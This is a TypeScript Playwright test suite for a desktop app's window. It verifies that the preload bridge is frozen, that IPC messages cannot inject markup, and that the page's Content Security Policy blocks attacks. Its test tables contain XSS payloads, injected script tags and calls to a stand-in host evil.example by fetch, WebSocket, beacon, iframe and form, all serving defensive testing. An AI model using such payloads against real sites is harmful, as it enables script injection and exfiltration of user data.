/** The real built preload and page in Chromium, over the real router. */

import { SHOW } from '@vigil/desktop/ipc/channels.ts';
import { createUserRequestRouter } from '@vigil/desktop/main/user-request-router.ts';
import { VigilError } from '@vigil/protocol/errors.ts';
import type { UserApi } from '@vigil/protocol/user/user-api.ts';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fakeUserApi } from '../../fakes/fake-user-api.ts';
import { openBrowser } from '../demo/browser.ts';
import { type BuiltWindow, buildWindow, type OpenedWindow, openWindow } from './window-in-chromium.ts';

let browser: Browser;
let built: BuiltWindow;
let window: OpenedWindow | undefined;

beforeAll(async () => {
  [built, browser] = [await buildWindow(), await openBrowser()];
});
afterAll(async () => {
  await browser.close();
  built.remove();
});

const open = async (userApi: UserApi = fakeUserApi(), alter?: (html: string) => string) => {
  await window?.context.close();
  window = await openWindow(browser, built, createUserRequestRouter(userApi), alter);
  return window;
};
const panel = () => window!.page.getByRole('tabpanel');

describe('the window', () => {
  test('renders without console errors', async () => {
    const { page, complaints } = await open();
    await panel().waitFor();
    for (const tab of await page.getByRole('tab').all()) {
      await tab.click();
      await panel().waitFor();
    }
    expect(await page.getByRole('tab').count()).toBe(6);
    expect(complaints).toEqual([]);
  });

  test('has exactly two immutable functions on the bridge', async () => {
    const { page } = await open();
    const found = await page.evaluate(() => {
      const { vigil } = globalThis as unknown as { vigil: Record<string, unknown> };
      try {
        vigil.request = null;
      } catch {
        // Frozen, and the page is a module.
      }
      return [Object.keys(vigil).sort(), typeof vigil.request, 'require' in globalThis, 'process' in globalThis];
    });
    expect(found).toEqual([['onShow', 'request'], 'function', false, false]);
  });

  test('opens the view that the tray requests, and ignores other messages', async () => {
    const { page, send } = await open();
    await panel().waitFor();
    await send(SHOW, 'attestations');
    await page.locator('[role=tab][aria-selected=true]', { hasText: 'Attestations' }).waitFor();
    await send(SHOW, { toString: 'no' });
    await send(SHOW, '<img src=x onerror=alert(1)>');
    await panel().waitFor();
    expect(await page.locator('img').count()).toBe(0);
  });

  test('shows an error when no companion replies, and recovers', async () => {
    const gone = {
      request: () => Promise.reject(new VigilError('companion-missing', 'none')),
    } as UserApi;
    const { page, complaints } = await open(gone);
    await page.getByText('companion', { exact: false }).first().waitFor();
    expect(complaints).toEqual([]);
  });

  test('saves an export under the CSP', async () => {
    const { page } = await open();
    await page.getByRole('tab', { name: 'My data' }).click();
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export my data' }).click();
    expect((await saved).url().startsWith('blob:')).toBe(true);
  });
});

describe('CSP of the page', () => {
  const tried = (attempt: string) =>
    window!.page.evaluate(async (source) => {
      const refused = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        setTimeout(() => resolve('nothing was refused'), 30_000);
      });
      try {
        // Runs outside of the page's policy, as the debugger does; what it makes is under it.
        await new Function(source)();
      } catch {
        // Some refusals throw as well.
      }
      return { refused: await refused, ran: 'ran' in globalThis };
    }, attempt);

  beforeAll(async () => {
    await open();
    await panel().waitFor();
  });

  test.each([
    [
      'require-trusted-types-for',
      `const s = document.createElement('script'); s.append('globalThis.ran = 1'); document.body.append(s)`,
    ],
    [
      'require-trusted-types-for',
      `const s = document.createElement('script'); s.setAttribute('src', 'https://evil.example/x.js'); document.body.append(s)`,
    ],
    [
      'style-src-elem',
      `const s = document.createElement('style'); s.textContent = '*{color:red}'; document.head.append(s)`,
    ],
    ['connect-src', `fetch('https://evil.example/')`],
    ['connect-src', `new WebSocket('wss://evil.example/')`],
    ['connect-src', `navigator.sendBeacon('https://evil.example/', 'x')`],
    ['img-src', `new Image().src = 'https://evil.example/x.png'`],
    [
      'frame-src',
      `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
    ],
    [
      'form-action',
      `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()`,
    ],
    ['require-trusted-types-for', `new Worker('https://window.vigil.example/assets/x.js')`],
    ['base-uri', `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)`],
    ['require-trusted-types-for', `document.body.innerHTML = '<img src=x onerror="globalThis.ran = 1">'`],
    ['trusted-types', `trustedTypes.createPolicy('mine', {})`],
  ])('refuses by %s: %s', async (directive, attempt) => {
    expect(await tried(attempt)).toEqual({ refused: directive, ran: false });
  });
});

test.each([
  ['in its text', '<script>globalThis.ran = 1</script>'],
  ['from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['in an attribute', '<img src="data:," onerror="globalThis.ran = 1">'],
])('a page that was given a script %s does not run it', async (_name, script) => {
  const { page, complaints } = await open(fakeUserApi(), (html) => html.replace('</body>', `${script}</body>`));
  await panel().waitFor();
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(complaints.some((text) => text.includes('Content Security Policy'))).toBe(true);
});

describe('a compromised page', () => {
  const userApi = fakeUserApi();
  beforeAll(async () => {
    await open(userApi);
    await panel().waitFor();
  });

  const call = (source: string) =>
    window!.page.evaluate(
      (text) =>
        new Function('request', `return request(${text})`)(
          (globalThis as unknown as { vigil: { request(request: unknown): unknown } }).vigil.request,
        ),
      source,
    );

  test.each([
    ['request-invalid', 'null'],
    ['request-invalid', '"erase"'],
    ['request-invalid', '[]'],
    ['request-invalid', '{ type: "__proto__" }'],
    ['request-invalid', '{ type: "erase", really: true }'],
    ['request-invalid', '{ type: "export", part: -1 }'],
    ['request-invalid', '{ type: "attestations", filter: { text: "x".repeat(1e6) }, before: null, limit: 1 }'],
  ])('gets %s for %s', async (code, request) => {
    expect(await call(request)).toEqual({ ok: false, code });
    expect(userApi.requests.filter(({ type: what }) => what !== 'overview')).toEqual([]);
  });

  test('gets no reply in a frame', async () => {
    const { page } = window!;
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.name = 'inner';
      document.body.append(frame);
    });
    const inner = page.frame({ name: 'inner' });
    const reply = await inner?.evaluate(() =>
      (globalThis as unknown as { vigil: { request(request: unknown): unknown } }).vigil.request({ type: 'overview' }),
    );
    expect(reply).toEqual({ ok: false, code: 'not-allowed' });
  });
});
